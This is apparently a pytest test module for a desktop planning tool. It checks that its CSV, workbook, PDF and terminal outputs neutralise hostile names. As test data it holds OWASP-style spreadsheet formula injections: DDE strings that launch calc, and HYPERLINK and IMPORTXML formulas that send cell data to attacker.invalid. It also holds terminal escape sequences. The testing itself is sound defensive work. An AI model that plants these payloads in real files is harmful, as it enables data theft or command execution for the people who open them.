"""Formula and terminal injection: hostile names through every output a user opens (CSV, workbook, PDF, summary).

The payloads are OWASP's CSV-injection examples and their relatives. A plan holds them as
scenario, source, stage and priority names and as its title; the outputs are made by the real
command in a real process, and the CSV is opened with LibreOffice's CSV import with formula
evaluation switched on, the way a spreadsheet user would open it.
"""

from __future__ import annotations

import copy
import csv
import json
import re
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest

from desktop.io.plan_file import read_plan
from desktop.io.safe_text import spreadsheet_text, starts_a_formula, terminal_lines, terminal_text
from desktop.io.tidy_csv import BYTE_ORDER_MARK, tidy_csv_text
from desktop.io.workbook.safe_text import decode
from desktop.model.plan import Plan

from .libreoffice import load, soffice
from .samples import small_plan

COMMAND = Path(sys.executable).with_name("caseload-planner")

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=2+2",
    "\r=3+3",
    " =4+4",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click me")',
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://attacker.invalid/?v=", CONCATENATE(A2:E2)), "//a")',
    "\uff1d5+5",  # a full-width equals sign
    "-3.5",
    "#N/A",
    "Zeden – Rotterdam ü",  # harmless, and not ASCII
)
TITLE = '=HYPERLINK("http://attacker.invalid/","title")\x1b]0;retitled\x07\x1b[2J\x1b[31m'
# The part of each payload no formula the program writes itself would hold.
MARKERS = ("attacker.invalid", "cmd|", "SUM(1+", "IMPORTXML", "DDE(")
SUMS = re.compile(r"(?<![\w$.])([1-5])\+\1(?![\w.])")
"""The payloads' small sums as a formula of their own would hold them: not a part of 2021+1 or A1+1."""
# LibreOffice's CSV filter: comma, double quote, UTF-8, from line 1, US English, ..., evaluate formulas.
EVALUATING_CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


def _hostile_plan(scenarios: int = len(PAYLOADS)) -> dict[str, Any]:
    """A scenario named after each payload; the first three also carry every payload as another name."""
    raw = small_plan()
    raw["title"] = TITLE
    template = raw["scenarios"][0]
    raw["scenarios"] = []
    for index in range(scenarios):
        scenario = copy.deepcopy(template)
        scenario["name"] = PAYLOADS[index]
        scenario["months"] = 12  # rows enough for every kind of cell; LibreOffice imports them in seconds
        names = [PAYLOADS[(3 + 6 * index + k) % len(PAYLOADS)] for k in range(6)]
        scenario["stages"][0]["name"], scenario["stages"][1]["name"] = names[0], names[1]
        scenario["stages"][0]["team"], scenario["stages"][1]["team"] = names[2], "Team\x1b]0;retitled\x07"
        scenario["priorities"][0]["name"], scenario["priorities"][1]["name"] = names[3], names[4]
        scenario["sources"][0]["name"], scenario["sources"][1]["name"] = names[5], names[0] + "\x1b]0;retitled\x07"
        raw["scenarios"].append(scenario)
    return raw


def run(*args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(COMMAND), *map(str, args)], capture_output=True, text=True, check=False, timeout=300)


class Outputs:
    """The hostile plan and every output of it, made once for the module."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.plan_path = folder / "hostile.caseplan"
        self.plan_path.write_text(json.dumps(_hostile_plan(), ensure_ascii=False), encoding="utf-8")
        self.plan: Plan = read_plan(self.plan_path)
        # A workbook of every scenario takes a second each: three scenarios hold every payload.
        self.small_plan_path = folder / "three scenarios.caseplan"
        self.small_plan_path.write_text(json.dumps(_hostile_plan(3), ensure_ascii=False), encoding="utf-8")
        self.small_plan: Plan = read_plan(self.small_plan_path)
        self.csv = folder / "projection.csv"
        self.raw_csv = folder / "raw.csv"
        self.workbook = folder / "meeting.xlsx"
        self.pdf = folder / "summary.pdf"
        for args in (
            ("project", self.plan_path, "--csv", self.csv),
            ("project", self.plan_path, "--raw", "--csv", self.raw_csv),
            ("export", self.small_plan_path, "-o", self.workbook, "--all"),
            ("export", self.small_plan_path, "-o", self.pdf),
        ):
            done = run(*args)
            assert done.returncode == 0, done.stderr
        self.summary = run("summary", self.plan_path)
        assert self.summary.returncode == 0, self.summary.stderr

    def imported(self, csv_file: Path) -> list[list[tuple[Any, str]]]:
        """``csv_file`` opened with LibreOffice's CSV import (formulas evaluated), saved as .xlsx, read by openpyxl.

        Each row as (value or formula, openpyxl's data type: "s" text, "n" number, "f" formula, "e" error).

        Both CSV files are imported by one LibreOffice start.
        """
        out_dir = self.folder / "imported"
        target = out_dir / csv_file.with_suffix(".xlsx").name
        if not target.exists():
            with tempfile.TemporaryDirectory(prefix="lo-profile-") as profile:
                done = subprocess.run(
                    [
                        soffice(),
                        f"-env:UserInstallation={Path(profile).as_uri()}",
                        "--headless",
                        "--norestore",
                        f"--infilter={EVALUATING_CSV_IMPORT}",
                        "--convert-to",
                        "xlsx",
                        "--outdir",
                        str(out_dir),
                        str(self.csv),
                        str(self.raw_csv),
                    ],
                    capture_output=True,
                    text=True,
                    timeout=300,
                    check=False,
                )
            assert target.exists(), f"LibreOffice did not import {csv_file.name}: {done.stdout}\n{done.stderr}"
        workbook = openpyxl.load_workbook(target, read_only=True)
        try:
            return [[(cell.value, cell.data_type) for cell in row] for row in workbook.active.iter_rows()]
        finally:
            workbook.close()


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Outputs:
    return Outputs(tmp_path_factory.mktemp("injection"))


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def test_the_plan_holds_the_payloads_as_names(outputs: Outputs) -> None:
    """Validation strips the blanks around a name: a leading tab or CR leaves a bare "=" (the reported hole)."""
    names = [s.name for s in outputs.plan.scenarios]
    assert {"=2+2", "=3+3", "=4+4"} <= set(names)
    assert outputs.plan.title.startswith("=HYPERLINK(")


def test_csv_cells_that_could_start_a_formula_begin_with_a_quote(outputs: Outputs) -> None:
    rows = _rows(outputs.csv)
    by_scenario = {row["scenario"] for row in rows}
    names = [s.name for s in outputs.plan.scenarios]
    assert by_scenario == {spreadsheet_text(name) for name in names}
    for name in names:
        expected = "'" + name if name[0] in "=+-@\uff1d" else name
        assert expected in by_scenario, name
    assert "Zeden – Rotterdam ü" in by_scenario  # harmless names are left as they are
    assert all(not starts_a_formula(cell) for row in rows for cell in row.values())
    # The value column holds numbers, written as numbers.
    assert all(np.isfinite(float(row["value"])) for row in rows)


def test_raw_csv_keeps_the_names_exactly(outputs: Outputs) -> None:
    assert {row["scenario"] for row in _rows(outputs.raw_csv)} == {s.name for s in outputs.plan.scenarios}


def test_a_csv_file_starts_with_the_utf8_byte_order_mark(outputs: Outputs) -> None:
    """Excel reads a CSV file without the mark in the system's code page: "ü" would become "Ã¼"."""
    data = outputs.csv.read_bytes()
    assert data.startswith(BYTE_ORDER_MARK.encode("utf-8") + b"scenario,month,")
    assert data.count(BYTE_ORDER_MARK.encode("utf-8")) == 1


def test_libreoffice_csv_import_makes_no_cell_a_formula(outputs: Outputs) -> None:
    header, *rows = outputs.imported(outputs.csv)
    names = [value for value, _ in header]
    scenario_column, value_column = names.index("scenario"), names.index("value")
    kinds: set[str] = set()
    scenarios: set[str] = set()
    for row in rows:
        kinds.update(kind for value, kind in row if value is not None)
        scenarios.add(row[scenario_column][0])
        assert row[value_column][1] == "n", row[value_column]
    assert kinds <= {"s", "n"}  # no formula ("f"), no error value ("e")
    assert scenarios == {spreadsheet_text(s.name) for s in outputs.plan.scenarios}


def test_the_same_import_of_the_raw_csv_does_make_formulas(outputs: Outputs) -> None:
    """The import above would have caught a formula: without the quotes, LibreOffice runs them."""
    formulas = {str(value) for row in outputs.imported(outputs.raw_csv)[1:] for value, kind in row if kind == "f"}
    assert '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click me")' in formulas


def test_the_workbook_holds_every_name_as_text_and_no_formula_holds_one(outputs: Outputs) -> None:
    workbook = load(outputs.workbook, values=False)
    texts: set[str] = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formula = str(cell.value)
                    assert not any(marker in formula for marker in MARKERS), f"{sheet.title}!{cell.coordinate}"
                    assert not SUMS.search(formula), f"{sheet.title}!{cell.coordinate}"
                elif cell.data_type == "s":
                    texts.add(decode(cell.value))
    plan = outputs.small_plan
    names = {s.name for s in plan.scenarios}
    for scenario in plan.scenarios:
        names |= {stage.name for stage in scenario.stages} | {stage.team for stage in scenario.stages}
        names |= {p.name for p in scenario.priorities} | {s.name for s in scenario.sources}
    assert {name for name in names if "\x1b" not in name} >= {s.name for s in outputs.plan.scenarios}
    # Sheet cells keep the names exactly: the workbook types them as text, so no quote is needed.
    assert names <= texts


def test_the_pdf_shows_the_names_as_text(outputs: Outputs) -> None:
    done = subprocess.run(
        ["pdftotext", "-layout", str(outputs.pdf), "-"], capture_output=True, text=True, check=True, timeout=60
    )
    text = done.stdout
    scenario = outputs.small_plan.scenarios[0]
    assert scenario.name in text
    assert scenario.stages[0].name in text
    assert not any(ord(c) < 0x20 and c not in "\n\f" for c in text), "a control character reached the PDF"


def test_summary_shows_names_with_control_characters_escaped(outputs: Outputs) -> None:
    text = outputs.summary.stdout
    assert not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 for c in text)
    first_line = text.splitlines()[0]
    assert first_line == terminal_text(outputs.plan.title)
    assert "\\x1b]0;retitled\\x07\\x1b[2J" in first_line
    assert "— team Team\\x1b]0;retitled\\x07" in text  # a team's name, within the report
    # Formula signs mean nothing to a terminal: the names are shown as they are.
    assert 'Scenario: =HYPERLINK("http://attacker.invalid/?d="&A1,"Click me") (2026-01' in text


# --- the rules, on their own -----------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "  =1", "\uff0b1", "\uff20x"])
def test_text_that_could_start_a_formula_gets_a_quote(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Baseline", "a=1", "2026-01", "'=1", "#N/A", "ü=1"])
def test_other_text_is_left_alone(text: str) -> None:
    assert spreadsheet_text(text) == text


def test_only_text_columns_are_neutralised_and_negative_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "scenario": ["=A1", "-3.5", None],
            "value": [-3.5, -1e-9, 2.0],
            "count": np.array([-2, 0, 1], dtype=np.int64),
        }
    )
    lines = tidy_csv_text(frame).splitlines()
    assert lines == ["scenario,value,count", "'=A1,-3.5,-2", "'-3.5,-1e-09,0", ",2.0,1"]
    assert tidy_csv_text(frame, raw=True).splitlines()[1:3] == ["=A1,-3.5,-2", "-3.5,-1e-09,0"]
    assert list(frame["scenario"][:2]) == ["=A1", "-3.5"]  # the caller's frame is not changed


def test_terminal_text_escapes_what_a_terminal_would_obey() -> None:
    assert terminal_text("Zeden – ü") == "Zeden – ü"
    assert terminal_text("a\x1b]0;x\x07b") == "a\\x1b]0;x\\x07b"
    assert terminal_text("a\rb\nc\u202ed\x9b") == "a\\rb\\nc\\u202ed\\x9b"
    assert terminal_lines("one\x1b[2J\ntwo\r") == "one\\x1b[2J\ntwo\\r"
